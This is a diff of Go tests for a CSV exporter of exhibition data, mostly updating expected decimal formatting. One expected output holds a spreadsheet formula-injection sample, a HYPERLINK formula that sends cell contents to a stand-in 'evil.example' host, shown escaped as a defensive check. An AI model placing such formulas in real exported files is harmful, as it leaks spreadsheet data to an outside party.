@@ -46,7 +46,7 @@ func TestCSVNumbersAndMarks(t *testing.T) {
 		want  string
 	}{
 		{3800, true, "3800"}, {10.5, true, "10,5"}, {1.234, true, "1,2340"}, {1234.567, true, "1234,5670"},
-		{0.25, true, "0,25"}, {1.234, false, "1.234"}, {1e7, false, "10000000"},
+		{0.25, true, "0,25"}, {1.234, false, "1.2340"}, {1234.567, false, "1234.5670"}, {1e7, false, "10000000"},
 	} {
 		if got := string(csvNumber(nil, c.v, c.comma)); got != c.want {
 			t.Errorf("csvNumber(%v, %v) = %q, want %q", c.v, c.comma, got, c.want)
@@ -79,8 +79,8 @@ func TestCSV(t *testing.T) {
 			`;"'=HYPERLINK(""http://evil.example/?""&A1,""click"")";`, ";''=typed with two apostrophes;", ";'an apostrophe of the user's;",
 			"Все страны", "Российско-Китайское ЭКСПО"}},
 		{view.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Source,Note,Import\r\n",
-			`2023,INNOPROM,China,"Area, m²",1.234,,actual,`, ",'@SUM(A1:A9),", ",at most,planned,", "All countries"}},
-		{view.RU, ',', []string{"Год,Выставка", `"Площадь, м²",1.234,`}},
+			`2023,INNOPROM,China,"Area, m²",1.2340,,actual,`, ",'@SUM(A1:A9),", ",at most,planned,", "All countries"}},
+		{view.RU, ',', []string{"Год,Выставка", `"Площадь, м²",1.2340,`}},
 		{view.EN, ';', []string{"Year;Exhibition", ";Area, m²;1,2340;"}},
 	} {
 		rep := rep(t, r, Request{Page: PageData, Lang: c.lang})
